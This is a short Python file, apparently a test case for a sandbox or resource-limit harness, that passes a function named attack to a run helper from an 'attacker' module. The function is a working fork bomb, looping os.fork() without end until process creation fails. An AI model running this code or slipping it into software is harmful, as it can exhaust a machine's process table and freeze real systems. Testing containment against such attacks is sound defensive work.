"""Every process forks, and so do those."""

import os
import signal
from typing import Any

from attacker import run


def attack() -> dict[str, Any]:
    while True:
        try:
            os.fork()
        except OSError:
            signal.pause()


run(attack)
